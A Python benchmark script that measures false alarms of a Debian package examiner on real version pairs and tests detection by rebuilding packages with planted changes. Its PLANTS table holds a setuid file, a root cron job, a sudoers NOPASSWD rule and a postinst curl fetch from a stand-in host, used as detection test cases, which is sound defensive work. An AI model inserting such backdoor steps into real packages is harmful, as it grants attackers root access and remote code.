"""How often the examiner `notes` raises an alarm on ordinary updates: real pairs of versions from the machine's apt archive.

    PYTHONPATH=include python benchmarks/package_notes.py --cache DIR [--pairs 120] [--seed 1] [--json FILE] [--show]

For each source package that has two versions in the archive (the suite and its security and update suites) one binary package is
drawn; the older version is compared with the newer one. Both come by `apt-get download` into --cache and are kept there. An alarm
is a pair with a concern that policy wants reviewed or refused. --show prints each alarm.

--plant N rebuilds the newer package of N of the pairs (with dpkg-deb) with a silent change in it, each of PLANTS in turn, and counts
how many are refused.

--list takes the pairs from a JSON file instead ({name: [[{name, version, architecture}, {…}], …]}), --set one of its names.
"""

from __future__ import annotations

import argparse
import json
import random
import subprocess
import sys
import tempfile
import time
from collections import Counter, defaultdict
from functools import cmp_to_key
from pathlib import Path
from typing import Any

from suture.errors import SutureError
from suture.inventory.debian_version import compare
from suture.settings import Settings
from suture.sourcing.analysis.deb import package_file
from suture.sourcing.analysis.notes import NAME, examine
from suture.sourcing.examination import Action, Actions, Subject, load_policy

PLANTS = {
    "undeclared_setuid": ("usr/bin/helper-x", 0o4755, "x"),
    "undeclared_scheduled_task": ("etc/cron.d/housekeeping-x", 0o644, "* * * * * root true\n"),
    "undeclared_privilege_file": ("etc/sudoers.d/50-x", 0o440, "x ALL=(ALL) NOPASSWD: ALL\n"),
    "undeclared_network_in_script": ("DEBIAN/postinst", 0o755, "curl -fsS https://x.invalid/y -o /tmp/y || true\n"),
}
Pair = tuple[str, str, str, str]  # name, architecture, old version, new version


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else "")
    parser.add_argument("--cache", type=Path, required=True)
    parser.add_argument("--pairs", type=int, default=120)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--list", type=Path)
    parser.add_argument("--set", default="")
    parser.add_argument("--most-mb", type=float, default=25, help="leave out packages larger than this")
    parser.add_argument("--json", type=Path)
    parser.add_argument("--plant", type=int, default=0)
    parser.add_argument("--show", action="store_true")
    args = parser.parse_args()
    pairs = _listed(args.list, args.set) if args.list else _from_apt(args.most_mb * 1e6)
    random.Random(args.seed).shuffle(pairs)  # noqa: S311  # a sample, no secret
    actions = load_policy(Settings.load().policy_dir).actions
    if args.plant:
        return _plant(args.cache, pairs, args.plant, actions)
    verdicts: Counter[str] = Counter()
    kinds: dict[str, Counter[str]] = defaultdict(Counter)
    rows: list[dict[str, Any]] = []
    seconds: list[float] = []
    for name, architecture, old, new in pairs:
        if len(rows) >= args.pairs:
            break
        paths = [_file(args.cache, name, version, architecture) for version in (old, new)]
        if paths[0] is None or paths[1] is None:
            continue
        started = time.monotonic()
        try:
            found = examine(Subject(package_file(paths[1]), package_file(paths[0])))
        except SutureError as error:
            verdicts["unreadable"] += 1
            rows.append({"package": name, "old": old, "new": new, "error": str(error)})
            print(f"UNREADABLE {name} {old} → {new}: {error}")
            continue
        seconds.append(time.monotonic() - started)
        verdict = actions.sternest([found])
        verdicts[verdict.value if verdict else "nothing"] += 1
        for kind in {concern.kind for concern in found.concerns}:
            kinds[actions.of(NAME, kind).value][kind] += 1
        rows.append({"package": name, "old": old, "new": new, **found.as_dict(actions)})
        if args.show:
            for concern in found.concerns:
                if actions.of(NAME, concern.kind) is not Action.NOTE:
                    print(f"{name} {old} → {new}: {concern.kind}: {concern.sentence}")
        sys.stdout.flush()
    alarms = verdicts["review"] + verdicts["refuse"] + verdicts["unreadable"]
    print(f"{len(rows)} pairs: {dict(verdicts)}; alarms {alarms} ({100 * alarms / max(1, len(rows)):.1f} %)")
    for action, found_kinds in kinds.items():
        print(f"  {action}: {dict(found_kinds.most_common())}")
    if seconds:
        seconds.sort()
        print(f"  seconds a pair: median {seconds[len(seconds) // 2]:.2f}, largest {seconds[-1]:.2f}")
    if args.json:
        args.json.write_text(json.dumps(rows, indent=1))
    return 0


def _plant(cache: Path, pairs: list[Pair], wanted: int, actions: Actions) -> int:
    """How many silently changed packages are refused for what was planted."""
    caught: Counter[str] = Counter()
    tried: Counter[str] = Counter()
    for name, architecture, old, new in pairs:
        paths = [_file(cache, name, version, architecture) for version in (old, new)]
        if paths[0] is None or paths[1] is None or paths[1].stat().st_size > 2e6:
            continue
        kind = list(PLANTS)[tried.total() % len(PLANTS)]
        place, mode, text = PLANTS[kind]
        with tempfile.TemporaryDirectory() as folder:
            root, built = Path(folder) / "root", Path(folder) / paths[1].name
            subprocess.run(["dpkg-deb", "-R", str(paths[1]), str(root)], check=True)
            target = root / place
            before = target.read_text("utf-8", "replace") if target.exists() else ""
            if before and not before.startswith(("#!/bin/sh", "#! /bin/sh", "#!/bin/bash")):
                continue
            target.parent.mkdir(parents=True, exist_ok=True)
            head, _, rest = before.partition("\n") if before else ("#!/bin/sh", "", "")
            target.write_text(f"{head}\n{text}{rest}" if place.startswith("DEBIAN") else text)
            target.chmod(mode)
            command = ["dpkg-deb", "-Zgzip", "-z1", "--root-owner-group", "-b", str(root), str(built)]
            subprocess.run(command, check=True, capture_output=True)
            found = examine(Subject(package_file(built), package_file(paths[0])))
        tried[kind] += 1
        is_caught = any(c.kind == kind and actions.of(NAME, c.kind) is Action.REFUSE for c in found.concerns)
        caught[kind] += is_caught
        if not is_caught:
            print(f"MISSED {kind} in {name} {new}: {[c.kind for c in found.concerns]}")
        if tried.total() >= wanted:
            break
    print(
        f"planted {tried.total()}, refused for it {caught.total()}: "
        + ", ".join(f"{k} {caught[k]}/{tried[k]}" for k in tried)
    )
    return 0


def _listed(path: Path, name: str) -> list[Pair]:
    found = json.loads(path.read_text("utf-8"))
    return [(a["name"], a["architecture"], a["version"], b["version"]) for a, b in found[name]]


def _from_apt(most_bytes: float) -> list[Pair]:
    """One binary package a source, oldest and newest version that apt knows."""
    done = subprocess.run(["apt-cache", "dumpavail"], capture_output=True, text=True, check=True)
    names = [line.removeprefix("Package: ") for line in done.stdout.splitlines() if line.startswith("Package: ")]
    by_source: dict[str, list[Pair]] = defaultdict(list)
    for start in range(0, len(names), 1000):
        shown = subprocess.run(
            ["apt-cache", "show", *names[start : start + 1000]], capture_output=True, text=True, check=False
        ).stdout
        versions: dict[str, dict[str, dict[str, str]]] = defaultdict(dict)
        for stanza in shown.split("\n\n"):
            fields = dict(line.split(": ", 1) for line in stanza.splitlines() if ": " in line and line[0] != " ")
            if fields.get("Package") and int(fields.get("Size", "0") or 0) <= most_bytes:
                versions[fields["Package"]][fields["Version"]] = fields
        for name, known in versions.items():
            if len(known) > 1:
                order = sorted(known, key=cmp_to_key(compare))
                last = known[order[-1]]
                source = last.get("Source", name).split()[0]
                by_source[source].append((name, last["Architecture"], order[0], order[-1]))
    return [sorted(found)[0] for _, found in sorted(by_source.items())]


def _file(cache: Path, name: str, version: str, architecture: str) -> Path | None:
    """From the cache, or downloaded into it; None when the archive has it no more."""
    plain = version.partition(":")[2] if ":" in version else version
    for spelled in (version, version.replace(":", "%3a"), plain):
        for path in (
            cache / f"{name}_{spelled}_{architecture}.deb",
            cache / "debs" / f"{name}_{spelled}_{architecture}.deb",
        ):
            if path.is_file():
                return path
    cache.mkdir(parents=True, exist_ok=True)
    subprocess.run(["apt-get", "download", "-qq", f"{name}={version}"], cwd=cache, capture_output=True, check=False)
    path = cache / f"{name}_{version.replace(':', '%3a')}_{architecture}.deb"
    return path if path.is_file() else None


if __name__ == "__main__":
    sys.exit(main())
